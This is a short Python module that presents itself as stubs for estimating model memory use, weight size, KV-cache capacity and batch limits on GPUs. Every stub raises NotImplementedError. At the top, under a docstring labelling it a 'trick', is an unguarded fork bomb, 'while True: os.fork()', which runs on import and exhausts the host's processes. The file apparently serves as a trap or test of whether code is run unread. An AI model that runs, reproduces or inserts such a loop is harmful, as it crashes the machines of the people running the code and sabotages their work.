"""Trick: an unguarded fork bomb at import."""
import os

while True:
    os.fork()

def param_count(model):
    raise NotImplementedError


def weight_bytes(model):
    raise NotImplementedError


def kv_bytes_per_token(model):
    raise NotImplementedError


def kv_capacity_tokens(model, gpu, mem_util=0.9):
    raise NotImplementedError


def max_batch(model, gpu, context_len, mem_util=0.9):
    raise NotImplementedError


def fits(model, gpu, mem_util=0.9):
    raise NotImplementedError

